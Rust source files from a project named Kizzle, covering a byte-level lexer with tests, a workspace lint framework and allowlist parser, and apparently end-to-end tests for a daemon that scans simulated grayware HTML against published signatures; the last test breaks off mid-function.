    while j < src.len() && (src[j] == b'b' || src[j] == b'c' || src[j] == b'r') && j - i < 2 {
        j += 1;
    }
    // Walk back: accept `b"`, `c"`, `r"`, `br"`, `cr"`, `rb` is not a
    // thing upstream but harmless to reject here (falls to ident).
    while j > i {
        let prefix = &src[i..j];
        let has_r = prefix.ends_with(b"r");
        match src.get(j) {
            Some(b'"') if !has_r => {
                return Some((lex_string_body(src, j + 1), TokenKind::Str));
            }
            Some(b'"') if has_r => {
                return Some((lex_raw_string_body(src, j + 1, 0), TokenKind::Str));
            }
            Some(b'#') if has_r => {
                let mut fence = 0;
                let mut k = j;
                while src.get(k) == Some(&b'#') {
                    fence += 1;
                    k += 1;
                }
                if src.get(k) == Some(&b'"') {
                    return Some((lex_raw_string_body(src, k + 1, fence), TokenKind::Str));
                }
                // `r#ident` — a raw identifier (only a single hash is
                // valid Rust, but totality beats strictness here).
                if prefix == b"r" && src.get(k).is_some_and(|&b| is_ident_start(b)) {
                    let mut e = k;
                    while e < src.len() && is_ident_continue(src[e]) {
                        e += 1;
                    }
                    return Some((e, TokenKind::Ident));
                }
                return None;
            }
            Some(b'\'') if prefix == b"b" => {
                let (end, kind) = lex_quote(src, j);
                // `b'…'` is a byte char; a bare `b'lifetime` still lexes
                // as whatever lex_quote decides, spans stay exact.
                return Some((end, kind));
            }
            _ => j -= 1,
        }
    }
    None
}

/// From a position *after* the opening `"` of a raw string with `fence`
/// hashes, consume past the closing `"###…` of the same width.
fn lex_raw_string_body(src: &[u8], mut i: usize, fence: usize) -> usize {
    while i < src.len() {
        if src[i] == b'"'
            && src[i + 1..].len() >= fence
            && src[i + 1..i + 1 + fence].iter().all(|&b| b == b'#')
        {
            return i + 1 + fence;
        }
        i += 1;
    }
    src.len()
}

/// Disambiguate a `'` at `i`: char literal, lifetime, or lone quote.
fn lex_quote(src: &[u8], i: usize) -> (usize, TokenKind) {
    let Some(&next) = src.get(i + 1) else {
        return (i + 1, TokenKind::Punct);
    };
    if next == b'\\' {
        // Escaped char literal: consume to the closing quote.
        let mut k = i + 2;
        while k < src.len() {
            match src[k] {
                b'\\' => k += 2,
                b'\'' => return (k + 1, TokenKind::Char),
                _ => k += 1,
            }
        }
        return (src.len(), TokenKind::Char);
    }
    if is_ident_continue(next) {
        // `'a'` (char) vs `'a`/`'static` (lifetime): consume the
        // identifier run and look for a closing quote.
        let mut e = i + 1;
        while e < src.len() && is_ident_continue(src[e]) {
            e += 1;
        }
        if src.get(e) == Some(&b'\'') {
            return (e + 1, TokenKind::Char);
        }
        if next.is_ascii_digit() {
            // `'1` with no closing quote is not a lifetime; emit the
            // quote alone and let the number lex on its own.
            return (i + 1, TokenKind::Punct);
        }
        return (e, TokenKind::Lifetime);
    }
    // `' '`, `'('`, … — single odd byte between quotes is a char.
    if src.get(i + 2) == Some(&b'\'') {
        return (i + 3, TokenKind::Char);
    }
    (i + 1, TokenKind::Punct)
}

/// Consume a numeric literal starting at a digit.
fn lex_number(src: &[u8], mut i: usize) -> usize {
    let radix_prefix = src[i] == b'0'
        && matches!(
            src.get(i + 1),
            Some(b'x' | b'X' | b'o' | b'O' | b'b' | b'B')
        );
    if radix_prefix {
        i += 2;
        while i < src.len() && (src[i].is_ascii_alphanumeric() || src[i] == b'_') {
            i += 1;
        }
        return i;
    }
    while i < src.len() && (src[i].is_ascii_digit() || src[i] == b'_') {
        i += 1;
    }
    // Fractional part only when followed by a digit, so `0..10` and
    // `1.max(2)` keep their dots as punctuation.
    if src.get(i) == Some(&b'.') && src.get(i + 1).is_some_and(u8::is_ascii_digit) {
        i += 1;
        while i < src.len() && (src[i].is_ascii_digit() || src[i] == b'_') {
            i += 1;
        }
    }
    // Exponent.
    if matches!(src.get(i), Some(b'e' | b'E'))
        && (src.get(i + 1).is_some_and(u8::is_ascii_digit)
            || (matches!(src.get(i + 1), Some(b'+' | b'-'))
                && src.get(i + 2).is_some_and(u8::is_ascii_digit)))
    {
        i += if src[i + 1].is_ascii_digit() { 2 } else { 3 };
        while i < src.len() && (src[i].is_ascii_digit() || src[i] == b'_') {
            i += 1;
        }
    }
    // Type suffix (`u32`, `f64`, …).
    while i < src.len() && (src[i].is_ascii_alphanumeric() || src[i] == b'_') {
        i += 1;
    }
    i
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(src: &str) -> Vec<(TokenKind, &str)> {
        lex(src.as_bytes())
            .into_iter()
            .map(|t| (t.kind, &src[t.start..t.end]))
            .collect()
    }

    fn code_kinds(src: &str) -> Vec<(TokenKind, &str)> {
        kinds(src)
            .into_iter()
            .filter(|(k, _)| !matches!(k, TokenKind::Whitespace))
            .collect()
    }

    #[test]
    fn raw_strings_hide_comment_markers_and_quotes() {
        let toks = code_kinds(r####"let x = r#"contains " and // and /*"# ;"####);
        assert!(toks
            .iter()
            .any(|(k, t)| *k == TokenKind::Str && t.starts_with("r#\"")));
        assert_eq!(toks.last().unwrap().1, ";");
    }

    #[test]
    fn raw_string_fence_widths_must_match() {
        let src = r#####"r##"inner "# stays"## tail"#####;
        let toks = code_kinds(src);
        assert_eq!(toks[0].0, TokenKind::Str);
        assert_eq!(toks[0].1, r#####"r##"inner "# stays"##"#####);
        assert_eq!(toks[1].1, "tail");
    }

    #[test]
    fn nested_block_comments_balance() {
        let toks = kinds("/* outer /* inner */ still */ code");
        assert_eq!(toks[0].0, TokenKind::BlockComment);
        assert_eq!(toks[0].1, "/* outer /* inner */ still */");
        assert_eq!(toks.last().unwrap().1, "code");
    }

    #[test]
    fn lifetimes_are_not_char_literals() {
        let toks = code_kinds("fn f<'a>(x: &'a str) { let c = 'a'; let n = '\\n'; }");
        let lifetimes: Vec<_> = toks
            .iter()
            .filter(|(k, _)| *k == TokenKind::Lifetime)
            .collect();
        let chars: Vec<_> = toks.iter().filter(|(k, _)| *k == TokenKind::Char).collect();
        assert_eq!(lifetimes.len(), 2);
        assert_eq!(chars.len(), 2);
        assert_eq!(chars[0].1, "'a'");
        assert_eq!(chars[1].1, "'\\n'");
    }

    #[test]
    fn raw_identifiers_are_idents_not_strings() {
        let toks = code_kinds("let r#type = r#\"raw\"#;");
        assert_eq!(toks[1], (TokenKind::Ident, "r#type"));
        assert_eq!(toks[3], (TokenKind::Str, "r#\"raw\"#"));
    }

    #[test]
    fn byte_and_c_strings_lex_as_strings() {
        for src in ["b\"bytes\"", "br#\"raw bytes\"#", "c\"cstr\"", "cr\"rawc\""] {
            let toks = code_kinds(src);
            assert_eq!(toks.len(), 1, "{src}");
            assert_eq!(toks[0].0, TokenKind::Str, "{src}");
        }
        assert_eq!(code_kinds("b'x'")[0].0, TokenKind::Char);
    }

    #[test]
    fn str_value_strips_quotes_prefixes_and_fences() {
        let src = br##"("plain", r#"raw "q" body"#, b"bytes\n")"##.to_vec();
        let vals: Vec<String> = lex(&src)
            .into_iter()
            .filter(|t| t.kind == TokenKind::Str)
            .map(|t| t.str_value(&src).unwrap())
            .collect();
        assert_eq!(vals[0], "plain");
        assert_eq!(vals[1], "raw \"q\" body");
        assert_eq!(vals[2], "bytes\n");
    }

    #[test]
    fn ranges_and_method_calls_keep_their_dots() {
        let toks = code_kinds("0..10 1.max(2) 1.5e3_f64");
        assert_eq!(toks[0], (TokenKind::Number, "0"));
        assert_eq!(toks[1], (TokenKind::Punct, "."));
        assert_eq!(toks[2], (TokenKind::Punct, "."));
        assert_eq!(toks[3], (TokenKind::Number, "10"));
        assert_eq!(toks[4], (TokenKind::Number, "1"));
        assert_eq!(toks[6], (TokenKind::Ident, "max"));
        assert_eq!(toks.last().unwrap(), &(TokenKind::Number, "1.5e3_f64"));
    }

    #[test]
    fn unterminated_literals_run_to_eof_without_panic() {
        for src in [
            "\"open",
            "r#\"open",
            "/* open /* deeper",
            "'\\",
            "b\"half\\",
        ] {
            let toks = lex(src.as_bytes());
            assert_eq!(toks.last().unwrap().end, src.len(), "{src}");
        }
    }
}
