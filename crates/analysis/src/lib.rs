//! # kizzle-analyze — workspace-aware static analysis for Kizzle
//!
//! Nine PRs in, the workspace's correctness rests on cross-crate
//! invariants that used to live only in prose: telemetry names must
//! match the checked-in schema, snapshot section names must agree
//! between every writer and reader, every perf-gate arm must correspond
//! to a real bench emitter, and library paths must route failures
//! through `KizzleError` rather than panic. This crate turns those
//! conventions into machine-checked lints that run as a CI gate
//! (`kizzle-analyze --deny-all`).
//!
//! The stack, bottom to top:
//!
//! * [`lexer`] — a total, hand-rolled Rust token scanner over raw
//!   bytes (raw strings, nested block comments, lifetime/char
//!   disambiguation; property-tested to never panic and to reconstruct
//!   any input from its spans);
//! * [`workspace`] — the walker that finds, classifies, and lexes
//!   every source file, and maps out `#[cfg(test)]`/`#[test]` regions;
//! * [`allow`] — the justified allowlist (`analysis/allow.toml`);
//!   every suppression carries a mandatory `reason`;
//! * [`lint`] + [`lints`] — the framework and the six repo-specific
//!   checks. `ANALYSIS.md` at the workspace root catalogs them and
//!   documents how to add a new one.
//!
//! # Quickstart
//!
//! ```
//! use kizzle_analyze::lexer::{lex, TokenKind};
//!
//! let src = br##"let x = r#"raw // not a comment"#; // real comment"##;
//! let tokens = lex(src);
//! assert_eq!(tokens.iter().filter(|t| t.kind == TokenKind::Str).count(), 1);
//! assert_eq!(
//!     tokens.iter().filter(|t| t.kind == TokenKind::LineComment).count(),
//!     1
//! );
//! // Total: spans reconstruct the source byte-for-byte.
//! let rebuilt: Vec<u8> = tokens.iter().flat_map(|t| t.text(src).to_vec()).collect();
//! assert_eq!(rebuilt, src);
//! ```

#![forbid(unsafe_code)]

pub mod allow;
pub mod lexer;
pub mod lint;
pub mod lints;
pub mod workspace;

pub use lint::{all_lints, run, Finding, Report, Severity};
