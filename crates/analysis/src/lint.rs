//! The lint framework: findings, severities, the allowlist filter, and
//! the driver that runs every lint over a lexed workspace.

use crate::allow::Allowlist;
use crate::lints;
use crate::workspace::Workspace;
use std::fmt;
use std::io;
use std::path::Path;

/// How serious a finding is.
///
/// `Error` fails the run unconditionally; `Warn` fails only under
/// `--deny-all` (the CI mode). There is deliberately no "info" level —
/// a check either defends an invariant or it should not run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Severity {
    Warn,
    Error,
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Severity::Warn => write!(f, "warn"),
            Severity::Error => write!(f, "error"),
        }
    }
}

/// One diagnostic: lint, location, message, and the offending line.
#[derive(Debug, Clone)]
pub struct Finding {
    pub lint: &'static str,
    pub severity: Severity,
    /// Workspace-relative path with `/` separators.
    pub path: String,
    /// 1-based; 0 when the finding is about a whole file.
    pub line: u32,
    pub col: u32,
    pub message: String,
    /// The source line the finding sits on (empty for whole-file
    /// findings); this is what allowlist `contains` patterns match.
    pub excerpt: String,
}

impl fmt::Display for Finding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}[{}] {}:{}:{}: {}",
            self.severity, self.lint, self.path, self.line, self.col, self.message
        )?;
        if !self.excerpt.is_empty() {
            write!(f, "\n    | {}", self.excerpt.trim())?;
        }
        Ok(())
    }
}

/// A lint: a name, a one-line description, and a pass over the
/// workspace. Lints are plain functions — the framework stays a list,
/// not a trait hierarchy.
pub struct Lint {
    pub name: &'static str,
    pub description: &'static str,
    pub run: fn(&Workspace, &mut Vec<Finding>),
}

/// Every registered lint, in the order they are run and listed.
#[must_use]
pub fn all_lints() -> Vec<Lint> {
    vec![
        Lint {
            name: "panic-path",
            description: "no unwrap/expect/panic!/todo!/unimplemented! in non-test library code",
            run: lints::panic_path::run,
        },
        Lint {
            name: "telemetry-drift",
            description: "telemetry name literals and telemetry.schema declare the same catalog",
            run: lints::telemetry_drift::run,
        },
        Lint {
            name: "section-registry",
            description: "snapshot section names appear only in kizzle-snapshot's sections module",
            run: lints::section_registry::run,
        },
        Lint {
            name: "threshold-drift",
            description: "every thresholds.json arm has a bench emitter, every bench arm a gate",
            run: lints::threshold_drift::run,
        },
        Lint {
            name: "timing-discipline",
            description: "no raw Instant::now() outside kizzle-telemetry in library code",
            run: lints::timing::run,
        },
        Lint {
            name: "forbid-unsafe-audit",
            description: "every workspace crate's library root carries #![forbid(unsafe_code)]",
            run: lints::unsafe_audit::run,
        },
    ]
}

/// The outcome of a full analysis run, post-allowlist.
#[derive(Debug)]
pub struct Report {
    /// Findings that survived the allowlist, in lint order.
    pub findings: Vec<Finding>,
    /// How many findings the allowlist suppressed.
    pub suppressed: usize,
    /// Allowlist entries that matched nothing — stale entries to prune.
    pub unused_allows: Vec<String>,
}

impl Report {
    #[must_use]
    pub fn error_count(&self) -> usize {
        self.findings
            .iter()
            .filter(|f| f.severity == Severity::Error)
            .count()
    }

    #[must_use]
    pub fn warn_count(&self) -> usize {
        self.findings.len() - self.error_count()
    }

    /// Whether the run fails: errors always do, warnings only when
    /// `deny_all` is set.
    #[must_use]
    pub fn failed(&self, deny_all: bool) -> bool {
        self.error_count() > 0 || (deny_all && !self.findings.is_empty())
    }

    /// Render the full human-readable report.
    #[must_use]
    pub fn render(&self) -> String {
        let mut out = String::new();
        for finding in &self.findings {
            out.push_str(&finding.to_string());
            out.push('\n');
        }
        for name in &self.unused_allows {
            out.push_str(&format!(
                "note: allowlist entry matched nothing (stale?): {name}\n"
            ));
        }
        out.push_str(&format!(
            "kizzle-analyze: {} error(s), {} warning(s), {} finding(s) allowlisted\n",
            self.error_count(),
            self.warn_count(),
            self.suppressed
        ));
        out
    }
}

/// Run `lint_filter`-selected lints (all when empty) over the workspace
/// at `root`, filtered through the allowlist at `allow_path` (which may
/// not exist — an absent allowlist allows nothing).
pub fn run(root: &Path, allow_path: &Path, lint_filter: &[String]) -> io::Result<Report> {
    let allowlist = if allow_path.exists() {
        Allowlist::load(allow_path).map_err(|e| {
            io::Error::new(
                io::ErrorKind::InvalidData,
                format!("{}: {e}", allow_path.display()),
            )
        })?
    } else {
        Allowlist::empty()
    };
    let workspace = Workspace::load(root)?;

    let mut raw = Vec::new();
    for lint in all_lints() {
        if lint_filter.is_empty() || lint_filter.iter().any(|n| n == lint.name) {
            (lint.run)(&workspace, &mut raw);
        }
    }

    let mut findings = Vec::new();
    let mut suppressed = 0;
    for finding in raw {
        if allowlist.matches(&finding) {
            suppressed += 1;
        } else {
            findings.push(finding);
        }
    }
    Ok(Report {
        findings,
        suppressed,
        unused_allows: allowlist.unused(),
    })
}
