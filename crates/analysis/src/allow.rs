//! The justified allowlist: `analysis/allow.toml`.
//!
//! Every suppression is an auditable record. The format is a TOML
//! subset — an array of `[[allow]]` tables of single-line string keys —
//! parsed by hand so the analyzer keeps its zero-dependency guarantee:
//!
//! ```toml
//! [[allow]]
//! lint = "panic-path"                     # required: which lint
//! path = "crates/core/src/service.rs"     # optional: path prefix
//! contains = ".lock().expect("            # optional: substring of the
//!                                         #   flagged line or message
//! reason = "poisoning means a thread already panicked; crash loudly"
//! ```
//!
//! `reason` is mandatory and must be non-empty — an unexplained
//! suppression is itself a lint violation, so the parser rejects it.
//! Entries that match nothing are reported as stale so the file shrinks
//! as violations are fixed.

use crate::lint::Finding;
use std::cell::Cell;
use std::fmt;
use std::fs;
use std::path::Path;

/// One `[[allow]]` entry.
#[derive(Debug)]
pub struct AllowEntry {
    pub lint: String,
    pub path: Option<String>,
    pub contains: Option<String>,
    pub reason: String,
    hits: Cell<usize>,
}

impl AllowEntry {
    fn matches(&self, finding: &Finding) -> bool {
        if self.lint != finding.lint {
            return false;
        }
        if let Some(prefix) = &self.path {
            if !finding.path.starts_with(prefix.as_str()) {
                return false;
            }
        }
        if let Some(needle) = &self.contains {
            if !finding.excerpt.contains(needle.as_str())
                && !finding.message.contains(needle.as_str())
            {
                return false;
            }
        }
        true
    }

    fn describe(&self) -> String {
        let mut out = format!("lint={}", self.lint);
        if let Some(p) = &self.path {
            out.push_str(&format!(" path={p}"));
        }
        if let Some(c) = &self.contains {
            out.push_str(&format!(" contains={c:?}"));
        }
        out
    }
}

/// A parsed allowlist with per-entry hit tracking.
#[derive(Debug)]
pub struct Allowlist {
    entries: Vec<AllowEntry>,
}

/// A parse failure, with the 1-based line it occurred on.
#[derive(Debug)]
pub struct AllowParseError {
    pub line: usize,
    pub message: String,
}

impl fmt::Display for AllowParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "line {}: {}", self.line, self.message)
    }
}

impl std::error::Error for AllowParseError {}

impl Allowlist {
    #[must_use]
    pub fn empty() -> Allowlist {
        Allowlist {
            entries: Vec::new(),
        }
    }

    /// Load and validate `path`.
    pub fn load(path: &Path) -> Result<Allowlist, AllowParseError> {
        let text = fs::read_to_string(path).map_err(|e| AllowParseError {
            line: 0,
            message: format!("cannot read allowlist: {e}"),
        })?;
        Allowlist::parse(&text)
    }

    /// Parse the TOML-subset text.
    pub fn parse(text: &str) -> Result<Allowlist, AllowParseError> {
        struct Partial {
            line: usize,
            lint: Option<String>,
            path: Option<String>,
            contains: Option<String>,
            reason: Option<String>,
        }
        let mut entries = Vec::new();
        let mut current: Option<Partial> = None;

        let finish = |p: Partial| -> Result<AllowEntry, AllowParseError> {
            let lint = p.lint.ok_or(AllowParseError {
                line: p.line,
                message: "entry is missing required key `lint`".into(),
            })?;
            let reason = p.reason.ok_or(AllowParseError {
                line: p.line,
                message:
                    "entry is missing required key `reason` — every suppression must be justified"
                        .into(),
            })?;
            if reason.trim().is_empty() {
                return Err(AllowParseError {
                    line: p.line,
                    message: "`reason` must be non-empty — every suppression must be justified"
                        .into(),
                });
            }
            Ok(AllowEntry {
                lint,
                path: p.path,
                contains: p.contains,
                reason,
                hits: Cell::new(0),
            })
        };

        for (idx, raw_line) in text.lines().enumerate() {
            let lineno = idx + 1;
            let line = strip_comment(raw_line).trim().to_string();
            if line.is_empty() {
                continue;
            }
            if line == "[[allow]]" {
                if let Some(done) = current.take() {
                    entries.push(finish(done)?);
                }
                current = Some(Partial {
                    line: lineno,
                    lint: None,
                    path: None,
                    contains: None,
                    reason: None,
                });
                continue;
            }
            let Some((key, value)) = line.split_once('=') else {
                return Err(AllowParseError {
                    line: lineno,
                    message: format!("expected `key = \"value\"` or `[[allow]]`, got: {line}"),
                });
            };
            let key = key.trim();
            let value = parse_basic_string(value.trim()).ok_or_else(|| AllowParseError {
                line: lineno,
                message: format!("value for `{key}` must be a basic double-quoted string"),
            })?;
            let Some(entry) = current.as_mut() else {
                return Err(AllowParseError {
                    line: lineno,
                    message: "key outside any [[allow]] entry".into(),
                });
            };
            let slot = match key {
                "lint" => &mut entry.lint,
                "path" => &mut entry.path,
                "contains" => &mut entry.contains,
                "reason" => &mut entry.reason,
                other => {
                    return Err(AllowParseError {
                        line: lineno,
                        message: format!(
                            "unknown key `{other}` (expected lint/path/contains/reason)"
                        ),
                    })
                }
            };
            if slot.is_some() {
                return Err(AllowParseError {
                    line: lineno,
                    message: format!("duplicate key `{key}`"),
                });
            }
            *slot = Some(value);
        }
        if let Some(done) = current.take() {
            entries.push(finish(done)?);
        }
        Ok(Allowlist { entries })
    }

    /// Whether any entry suppresses `finding` (and record the hit).
    #[must_use]
    pub fn matches(&self, finding: &Finding) -> bool {
        let mut hit = false;
        for entry in &self.entries {
            if entry.matches(finding) {
                entry.hits.set(entry.hits.get() + 1);
                hit = true;
            }
        }
        hit
    }

    /// Descriptions of entries that matched nothing this run.
    #[must_use]
    pub fn unused(&self) -> Vec<String> {
        self.entries
            .iter()
            .filter(|e| e.hits.get() == 0)
            .map(AllowEntry::describe)
            .collect()
    }

    #[must_use]
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

/// Strip a `#` comment, respecting double-quoted strings.
fn strip_comment(line: &str) -> &str {
    let bytes = line.as_bytes();
    let mut in_str = false;
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'\\' if in_str => i += 1,
            b'"' => in_str = !in_str,
            b'#' if !in_str => return &line[..i],
            _ => {}
        }
        i += 1;
    }
    line
}

/// Parse a TOML basic string: `"…"` with `\"` `\\` `\n` `\t` escapes.
/// Returns `None` on anything else (including trailing garbage).
fn parse_basic_string(value: &str) -> Option<String> {
    let inner = value.strip_prefix('"')?;
    let mut out = String::new();
    let mut chars = inner.chars();
    while let Some(c) = chars.next() {
        match c {
            '"' => {
                // Must be the end of the value.
                return chars.as_str().trim().is_empty().then_some(out);
            }
            '\\' => match chars.next()? {
                '"' => out.push('"'),
                '\\' => out.push('\\'),
                'n' => out.push('\n'),
                't' => out.push('\t'),
                _ => return None,
            },
            other => out.push(other),
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lint::Severity;

    fn finding(lint: &'static str, path: &str, excerpt: &str) -> Finding {
        Finding {
            lint,
            severity: Severity::Error,
            path: path.into(),
            line: 1,
            col: 1,
            message: "m".into(),
            excerpt: excerpt.into(),
        }
    }

    #[test]
    fn parses_and_matches_by_lint_path_and_contains() {
        let list = Allowlist::parse(
            "# header\n[[allow]]\nlint = \"panic-path\"\npath = \"crates/core/\"\ncontains = \".lock().expect(\"  # trailing\nreason = \"poison = crash\"\n",
        )
        .unwrap();
        assert_eq!(list.len(), 1);
        assert!(list.matches(&finding(
            "panic-path",
            "crates/core/src/service.rs",
            "self.x.lock().expect(\"compiler lock\")"
        )));
        assert!(!list.matches(&finding(
            "panic-path",
            "crates/serve/src/server.rs",
            "self.x.lock().expect(\"lock\")"
        )));
        assert!(!list.matches(&finding(
            "timing-discipline",
            "crates/core/src/service.rs",
            "self.x.lock().expect(\"lock\")"
        )));
        assert!(list.unused().is_empty());
    }

    #[test]
    fn entry_without_reason_is_rejected() {
        let err = Allowlist::parse("[[allow]]\nlint = \"panic-path\"\n").unwrap_err();
        assert!(err.message.contains("reason"), "{err}");
        let err =
            Allowlist::parse("[[allow]]\nlint = \"panic-path\"\nreason = \"  \"\n").unwrap_err();
        assert!(err.message.contains("non-empty"), "{err}");
    }

    #[test]
    fn unknown_keys_and_bare_values_are_rejected() {
        assert!(Allowlist::parse("[[allow]]\nlinty = \"x\"\nreason = \"r\"\n").is_err());
        assert!(Allowlist::parse("[[allow]]\nlint = bare\nreason = \"r\"\n").is_err());
        assert!(Allowlist::parse("lint = \"orphan\"\n").is_err());
    }

    #[test]
    fn stale_entries_are_reported() {
        let list = Allowlist::parse("[[allow]]\nlint = \"panic-path\"\nreason = \"r\"\n").unwrap();
        assert_eq!(list.unused().len(), 1);
        assert!(list.matches(&finding("panic-path", "x.rs", "")));
        assert!(list.unused().is_empty());
    }
}
