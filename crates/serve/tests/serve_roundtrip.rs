//! End-to-end: a `kizzle-serve` daemon over a published chain answers
//! byte-identical verdicts to the in-process matcher, exposes metrics
//! and status over the same socket, and drains gracefully on request.

use kizzle::prelude::*;
use kizzle_corpus::{GraywareStream, SimDate, StreamConfig};
use kizzle_serve::{ScanClient, ServeConfig, Server};
use std::path::PathBuf;

fn chain_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("kizzle-serve-test-{}-{name}", std::process::id()));
    std::fs::remove_dir_all(&dir).ok();
    dir
}

fn test_service() -> KizzleService {
    let config = KizzleConfig::fast();
    let reference = ReferenceCorpus::seeded_from_models(SimDate::new(2014, 8, 1), &config);
    KizzleService::new(config, reference).expect("fast config is valid")
}

#[test]
fn served_verdicts_match_the_in_process_matcher_byte_for_byte() {
    let dir = chain_dir("roundtrip");
    let mut service = test_service();
    let date = SimDate::new(2014, 8, 5);
    let day = GraywareStream::new(StreamConfig::small(7)).generate_day(date);
    service.process_day(date, &day).expect("day processes");
    service.save(&dir).expect("state saved");

    let mut config = ServeConfig::new(&dir);
    config.workers = 2;
    let server = Server::start(&config).expect("server starts");
    let addr = server.addr().to_string();

    let local = service.matcher();
    let mut client = ScanClient::connect(&addr).expect("client connects");

    // One-at-a-time and pipelined paths agree with the local matcher on
    // the full verdict: index, family, and epoch (both sides have seen
    // exactly one publication).
    let documents: Vec<&str> = day.iter().map(|sample| sample.html.as_str()).collect();
    let piped = client
        .scan_batch(documents.iter().copied(), 16)
        .expect("pipelined scans");
    assert_eq!(piped.len(), documents.len(), "no dropped scans");
    let mut detections = 0;
    for (document, wire) in documents.iter().zip(&piped) {
        let expected = local.scan_verdict(document);
        assert_eq!(*wire, expected);
        assert_eq!(
            client.scan(document).expect("single scan"),
            expected,
            "single-shot path agrees"
        );
        if expected.index.is_some() {
            detections += 1;
        }
    }
    assert!(detections > 0, "the mix must exercise real detections");

    let status = client.status().expect("status");
    assert!(
        status.contains("epoch=1"),
        "status reports the epoch: {status}"
    );
    assert!(
        status.contains("workers=2"),
        "status reports the fleet: {status}"
    );

    let metrics = client.metrics().expect("metrics");
    assert!(
        metrics.contains("kizzle_serve_scans_total"),
        "scan counter exported: {metrics}"
    );
    assert!(
        metrics.contains("kizzle_signatures_live"),
        "follower gauge exported: {metrics}"
    );

    // Graceful drain over the wire: the daemon acks, finishes, joins.
    client.shutdown().expect("shutdown acked");
    server.join();
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn a_server_over_an_empty_chain_serves_epoch_zero_until_the_first_save() {
    let dir = chain_dir("cold");
    let config = ServeConfig {
        workers: 1,
        poll_interval: std::time::Duration::from_millis(5),
        ..ServeConfig::new(&dir)
    };
    let server = Server::start(&config).expect("server starts on an empty dir");
    let addr = server.addr().to_string();
    let mut client = ScanClient::connect(&addr).expect("client connects");

    let verdict = client.scan("var x = 1;").expect("scan on the empty set");
    assert_eq!(verdict.epoch, 0);
    assert_eq!(verdict.index, None);

    // First save lands mid-flight; the follow thread hot-swaps it in.
    let mut service = test_service();
    let date = SimDate::new(2014, 8, 5);
    let day = GraywareStream::new(StreamConfig::small(7)).generate_day(date);
    service.process_day(date, &day).expect("day processes");
    service.save(&dir).expect("state saved");

    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    loop {
        let verdict = client.scan(&day[0].html).expect("scan");
        if verdict.epoch >= 1 {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "server never observed the save"
        );
        std::thread::sleep(std::time::Duration::from_millis(2));
    }
    server.shutdown();
    std::fs::remove_dir_all(&dir).ok();
}
