//! The chain-tail contract under fire: days are published while a fleet
//! of connections scans continuously. No scan is dropped, no verdict is
//! torn (a verdict's signature index always fits the set of the epoch
//! that answered it), per-connection epochs move monotonically, and
//! every published epoch is eventually observed by every connection
//! exactly once.

use kizzle::prelude::*;
use kizzle_corpus::{GraywareStream, SimDate, StreamConfig};
use kizzle_serve::{ScanClient, ServeConfig, Server};
use std::collections::BTreeSet;
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

const SCANNERS: usize = 3;
const DAYS: [(u32, u32, u32, u64); 3] = [(2014, 8, 5, 3), (2014, 8, 6, 4), (2014, 8, 7, 5)];

fn chain_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("kizzle-chain-tail-{}-{name}", std::process::id()));
    std::fs::remove_dir_all(&dir).ok();
    dir
}

#[test]
fn publishes_under_load_are_atomic_monotone_and_observed_by_every_connection() {
    let dir = chain_dir("fire");
    let config = KizzleConfig::fast();
    let reference = ReferenceCorpus::seeded_from_models(SimDate::new(2014, 8, 1), &config);
    let mut service = KizzleService::new(config, reference).expect("fast config is valid");

    let serve_config = ServeConfig {
        workers: SCANNERS,
        poll_interval: Duration::from_millis(5),
        ..ServeConfig::new(&dir)
    };
    let server = Server::start(&serve_config).expect("server starts");
    let addr = server.addr().to_string();

    // Published-epoch ledger: epoch N (1-based) -> signature count of the
    // set it publishes. Filled *before* each save so a scanner can never
    // observe an epoch the ledger does not yet bound.
    let ledger: Arc<Mutex<Vec<usize>>> = Arc::new(Mutex::new(vec![0]));
    let stop = Arc::new(AtomicBool::new(false));
    let last_seen: Arc<Vec<AtomicU64>> =
        Arc::new((0..SCANNERS).map(|_| AtomicU64::new(0)).collect());

    let probe_day =
        GraywareStream::new(StreamConfig::small(9)).generate_day(SimDate::new(2014, 8, 5));
    let documents: Arc<Vec<String>> =
        Arc::new(probe_day.into_iter().map(|sample| sample.html).collect());

    let mut scanners = Vec::new();
    for id in 0..SCANNERS {
        let addr = addr.clone();
        let documents = Arc::clone(&documents);
        let ledger = Arc::clone(&ledger);
        let stop = Arc::clone(&stop);
        let last_seen = Arc::clone(&last_seen);
        scanners.push(std::thread::spawn(move || {
            let mut client = ScanClient::connect(&addr).expect("scanner connects");
            let mut observed = BTreeSet::new();
            let mut previous = 0u64;
            let mut cursor = id * 17;
            while !stop.load(Ordering::Acquire) {
                let batch: Vec<&str> = (0..24)
                    .map(|i| documents[(cursor + i) % documents.len()].as_str())
                    .collect();
                cursor = (cursor + 24) % documents.len();
                let verdicts = client.scan_batch(batch.iter().copied(), 8).expect("scans");
                assert_eq!(verdicts.len(), batch.len(), "no dropped scans");
                for verdict in verdicts {
                    assert!(
                        verdict.epoch >= previous,
                        "epoch went backwards: {} after {previous}",
                        verdict.epoch
                    );
                    previous = verdict.epoch;
                    observed.insert(verdict.epoch);
                    if let Some(index) = verdict.index {
                        let bound = {
                            let ledger = ledger.lock().expect("ledger");
                            ledger.get(verdict.epoch as usize).copied()
                        };
                        let bound = bound.unwrap_or_else(|| {
                            panic!("verdict from unpublished epoch {}", verdict.epoch)
                        });
                        assert!(
                            (index as usize) < bound,
                            "torn verdict: index {index} outside epoch {}'s {bound} signatures",
                            verdict.epoch
                        );
                    }
                }
                last_seen[id].store(previous, Ordering::Release);
            }
            observed
        }));
    }

    // Publish the three days while the fleet scans.
    for (epoch, (year, month, day, seed)) in DAYS.iter().enumerate() {
